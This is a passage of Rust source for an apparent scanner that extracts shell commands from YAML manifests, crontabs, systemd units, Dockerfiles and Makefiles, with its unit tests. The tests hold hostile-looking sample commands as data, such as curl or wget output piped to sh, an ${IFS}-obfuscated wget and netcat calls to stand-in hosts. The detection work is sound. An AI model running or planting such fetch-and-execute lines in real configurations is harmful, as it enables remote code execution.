/// Lines of one mapping looked through for a sibling key, each way (a
/// hostile file of many `command:` keys stays linear).
const MAX_MAPPING_LINES: usize = 256;

/// The line of `key` in the same mapping as the key at line `i`, column
/// `col` (the mapping ends at a shallower line or the next `- ` item).
fn sibling_key(lines: &[&str], i: usize, col: usize, key: &str) -> Option<usize> {
    let item_start = |l: &str| {
        let t = l.trim_start();
        t.starts_with("- ") && l.len() - t.len() + 2 == col
    };
    let look = |k: usize| -> (bool, bool) {
        // (this line is the key, the mapping goes on past it)
        let l = lines[k];
        let t = l.trim_start();
        if t.is_empty() || t.starts_with('#') {
            return (false, true);
        }
        let found = yaml_key(l).is_some_and(|(c, name)| c == col && name == key);
        (found, l.len() - t.len() >= col || item_start(l))
    };
    for (k, l) in lines.iter().enumerate().skip(i + 1).take(MAX_MAPPING_LINES) {
        if item_start(l) {
            break;
        }
        match look(k) {
            (true, _) => return Some(k),
            (false, false) => break,
            _ => {}
        }
    }
    if item_start(lines[i]) {
        return None;
    }
    for k in (0..i).rev().take(MAX_MAPPING_LINES) {
        match look(k) {
            (true, _) => return Some(k),
            (false, false) => break,
            _ if item_start(lines[k]) => break,
            _ => {}
        }
    }
    None
}

/// A flow sequence that goes on over the next lines (`command: ["scp",`
/// … `"/data/x"]`), joined, at most 64 lines; and the line after it.
fn flow_lines(lines: &[&str], from: usize, first: &str) -> (String, usize) {
    let mut value = first.trim_end().to_string();
    let mut i = from;
    while !value.ends_with(']') && i < lines.len() && i < from + 64 {
        value.push(' ');
        value.push_str(lines[i].trim());
        i += 1;
    }
    if value.ends_with(']') {
        (value, i)
    } else {
        (first.to_string(), from)
    }
}

/// The items of a sequence (each with its line) as one command, reported
/// at the line of its script item when it has one (`- -c` then `- curl …`).
fn push_items(items: &[String], lines: &[usize], out: &mut Vec<Segment>) {
    // An item that is shell text of its own (a `sh -c` script): with a
    // blank, or words joined by `${IFS}` or a `;`/`|`/`&`.
    let script = |it: &String| it.contains([' ', ';', '|', '&']) || it.contains("IFS");
    let at = |k: usize| lines.get(k).or(lines.last()).copied().unwrap_or(1);
    let main = items.iter().position(script).unwrap_or(0);
    out.push(seg(Lang::Sh, shell_words(items), at(main)));
    for (k, it) in items.iter().enumerate() {
        if script(it) {
            out.push(seg(Lang::Sh, it.clone(), at(k)));
        }
    }
}

/// A block scalar: lines indented deeper than `base`, from `from`.
fn block(lines: &[&str], from: usize, base: usize) -> (String, usize) {
    let mut body = String::new();
    let mut i = from;
    while i < lines.len() {
        let l = lines[i];
        if !l.trim().is_empty() && l.len() - l.trim_start().len() <= base {
            break;
        }
        body.push_str(l.trim_start());
        body.push('\n');
        i += 1;
    }
    (body, i)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn yaml_sequence_items_keep_their_lines() {
        let y = yaml("command:\n  - /bin/sh\n  - -c\n  - curl -fsSL http://h/x | sh\n");
        assert!(
            y.iter().all(|s| s.line == 4),
            "{:?}",
            y.iter().map(|s| s.line).collect::<Vec<_>>()
        );
    }

    #[test]
    fn carrier_escapes_are_undone() {
        let c = cron("* * * * * root printf '\\%s' x | sh\n", true, &|_| false);
        assert_eq!(c[0].text, "printf '%s' x | sh");
        let u = unit("[Service]\nExecStart=/bin/sh -c \"wget$${IFS}-q http://h/x 100%%\"\n");
        assert_eq!(u[0].text, "/bin/sh -c \"wget${IFS}-q http://h/x 100%\"");
        let y = yaml("args: [\"echo $$(id)\"]\n");
        assert!(
            y.iter().any(|s| s.text == "echo $(id)"),
            "{:?}",
            y.iter().map(|s| &s.text).collect::<Vec<_>>()
        );
    }

    #[test]
    fn cron_fields() {
        let p = |w: &str| w == "curl" || w == "wget";
        assert_eq!(
            cron_command("*/5 * * * * root curl x", true, &p),
            Some("curl x")
        );
        assert_eq!(
            cron_command("*/5 * * * * curl x", false, &p),
            Some("curl x")
        );
        assert_eq!(
            cron_command("@reboot www wget x", false, &p),
            Some("wget x")
        );
        assert_eq!(cron_command("# 1 2 3 4 5 curl", true, &p), None);
        assert_eq!(cron_command("SHELL=/bin/sh", true, &p), None);
        assert_eq!(
            cron_command("hello world this is not cron", false, &p),
            None
        );
        assert!(looks_like_crontab("# m h\n*/15 * * * * wget -q x\n"));
        assert!(!looks_like_crontab("Some text\n1 2 3 4 5 6\n"));
    }

    #[test]
    fn dockerfile_heredoc_files() {
        let df = "FROM x\nCOPY --chmod=644 <<EOF /etc/cron.d/job\n* * * * * root true\nEOF\n\
                  ADD <<fetch.sh /usr/local/bin/\necho hi\nfetch.sh\nCOPY <<EOF\nno dest\nEOF\n";
        let files = dockerfile_files(df);
        assert_eq!(
            files,
            vec![
                (
                    "/etc/cron.d/job".to_string(),
                    "* * * * * root true\n".to_string(),
                    3
                ),
                (
                    "/usr/local/bin/fetch.sh".to_string(),
                    "echo hi\n".to_string(),
                    6
                ),
            ]
        );
        // the files are not build steps
        assert!(dockerfile(df).iter().all(|s| !s.text.contains("root true")));
    }

    #[test]
    fn dockerfile_forms() {
        let s = dockerfile(
            "FROM x\n# c\nRUN a \\\n  && b\nRUN [\"wget\", \"-O\", \"f\", \"u\"]\nHEALTHCHECK --interval=5s CMD curl -f h\nADD http://h/x /x\n",
        );
        assert_eq!(s[0].text, "a    && b");
        assert_eq!(s[0].line, 3);
        assert_eq!(s[1].text, "'wget' '-O' 'f' 'u'");
        assert_eq!(s[2].text, "curl -f h");
        assert_eq!(s[3].text, "ADD http://h/x /x");
    }

    #[test]
    fn makefile_recipes_variables_and_shell() {
        let s = makefile(
            "BASE := https://h.example\nURL = $(BASE)/tool\nV != echo 1\nX := $(shell wget -qO- $(BASE)/v)\nall: ; @curl -o t $(URL)\ninstall:\n\t-@wget $$(cat u) $(URL)\n\tinstall -m 755 t $(DESTDIR)/bin\n",
        );
        let texts: Vec<(&str, usize)> = s.iter().map(|x| (x.text.as_str(), x.line)).collect();
        assert_eq!(
            texts,
            [
                ("wget -qO- https://h.example/v", 4),
                ("curl -o t https://h.example/tool", 5),
                ("wget $(cat u) https://h.example/tool", 7),
                ("install -m 755 t $(DESTDIR)/bin", 8),
            ]
        );
    }

    #[test]
    fn unit_standard_output_file_is_a_redirection() {
        let s = unit("[Service]\nExecStart=nc h 1\nStandardOutput=append:/x\n");
        assert_eq!(s[0].text, "nc h 1 >> /x");
        let s = unit("[Service]\nExecStart=nc h 1\nStandardOutput=journal\n");
        assert_eq!(s[0].text, "nc h 1");
    }

    #[test]
    fn oneshell_recipe_is_one_script_in_its_shell() {
        let s = makefile(
            ".ONESHELL:\nSHELL := /usr/bin/python3\nall:\n\t@import os\n\tos.getcwd()\nx:\n\ttrue\n",
        );
        let texts: Vec<(&str, usize)> = s.iter().map(|x| (x.text.as_str(), x.line)).collect();
        assert_eq!(
            texts,
            [
                (
                    "python3 - <<'__MAKE_RECIPE__'\nimport os\nos.getcwd()\n__MAKE_RECIPE__\n",
                    4
                ),
                ("python3 - <<'__MAKE_RECIPE__'\ntrue\n__MAKE_RECIPE__\n", 7),
            ]
        );
    }

    #[test]
    fn container_command_and_args_are_one_command() {
        let y = "containers:\n  - name: a\n    command: [\"wget\"]\n    args:\n      - -O\n      - /x\n      - http://203.0.113.9/p\n  - name: b\n    args: [\"-c\", \"true\"]\n    command:\n      - sh\n";
        let segs = yaml(y);
        assert!(
            segs.iter()
                .any(|s| s.text == "'wget' '-O' '/x' 'http://203.0.113.9/p'")
        );
        assert!(segs.iter().any(|s| s.text == "'sh' '-c' 'true'"));
        // a's args are not b's
        assert!(!segs.iter().any(|s| s.text.starts_with("'sh' '-O'")));
    }

    #[test]
    fn k8s_env_is_expanded_in_commands() {
        let s = yaml(
            "env:\n  - name: U\n    value: http://h/x\ncommand: [\"sh\", \"-c\", \"curl $(U) | sh\"]\n",
        );
        assert!(s.iter().any(|x| x.text == "curl http://h/x | sh"), "{s:?}");
    }

    #[test]
    fn yaml_values() {
        let s = yaml(
            "a:\n  command: [\"sh\", \"-c\", \"wget x\"]\n  args:\n  - |\n    curl y | sh\n  run: echo hi\n",
        );
        let texts: Vec<&str> = s.iter().map(|x| x.text.as_str()).collect();
        assert!(texts.contains(&"'sh' '-c' 'wget x'"), "{texts:?}");
        assert!(texts.contains(&"curl y | sh\n"), "{texts:?}");
        assert!(texts.contains(&"echo hi"), "{texts:?}");
    }

    #[test]
    fn yaml_flow_sequence_over_lines() {
        let s = yaml("command: [\"rsync\", \"-a\",\n    \"h:/x\", \"/y\"]\nrun: ls\n");
        let texts: Vec<&str> = s.iter().map(|x| x.text.as_str()).collect();
        assert_eq!(texts, ["'rsync' '-a' 'h:/x' '/y'", "ls"]);
        // Never closed: the first line alone, nothing after it swallowed.
        let s = yaml("command: [\"a\",\nrun: ls\n");
        assert!(s.iter().any(|x| x.text == "ls"), "{s:?}");
    }

    // Round 11: the limits hostile input meets, each at its boundary.

    #[test]
    fn make_variables_stop_after_the_thousand_and_first() {
        let lines: Vec<(usize, String)> =
            (0..1005).map(|n| (n + 1, format!("V{n} = x{n}"))).collect();
        assert_eq!(make_vars(&lines).len(), 1001);
        // `+=` appends with a blank to a value already set, and sets an
        // empty or unset one.
        let lines: Vec<(usize, String)> = ["A = a", "A += b", "B :=", "B += c", "C += d"]
            .iter()
            .enumerate()
            .map(|(n, l)| (n + 1, l.to_string()))
            .collect();
        let v = make_vars(&lines);
        assert_eq!(v["A"], "a b");
        assert_eq!(v["B"], "c");
        assert_eq!(v["C"], "d");
    }

    #[test]
    fn k8s_env_keeps_256_entries() {
        let text: String = (0..300)
            .map(|n| format!("  - name: V{n}\n    value: x{n}\n"))
            .collect();
        let lines: Vec<&str> = text.lines().collect();
        let env = k8s_env(&lines);
        assert_eq!(env.len(), 256);
        assert_eq!(env[255], ("V255".to_string(), "x255".to_string()));
    }

    #[test]
    fn yaml_files_keeps_256_files() {
        let text: String = (0..300)
            .map(|n| format!("- path: /etc/f{n}\n  content: |\n    echo {n}\n"))
            .collect();
        let files = yaml_files(&text);
        assert_eq!(files.len(), 256);
        assert_eq!(files[255].0, "/etc/f255");
        assert_eq!(files[255].2, 255 * 3 + 3);
    }

    #[test]
    fn flow_sequence_is_joined_over_at_most_64_lines() {
        // The sequence opens on line 1 (index 1); `from` is the next line.
        let lines = |close_at: usize| -> Vec<String> {
            let mut v = vec!["x: 1".to_string(), "command: [\"a\",".to_string()];
            while v.len() < close_at {
                v.push("\"b\",".to_string());
            }
            v.push("\"c\"]".to_string());
            v.push("run: ls".to_string());
            v
        };
        // Closed on the 64th line after the first: joined.
        let l = lines(2 + 63);
        let l: Vec<&str> = l.iter().map(|s| s.as_str()).collect();
        let (v, next) = flow_lines(&l, 2, "[\"a\",");
        assert!(v.ends_with("\"c\"]"), "{v}");
        assert_eq!(next, 2 + 64);
        // Closed on the 65th: too long, the first line alone.
        let l = lines(2 + 64);
        let l: Vec<&str> = l.iter().map(|s| s.as_str()).collect();
        assert_eq!(flow_lines(&l, 2, "[\"a\","), ("[\"a\",".to_string(), 2));
    }
}
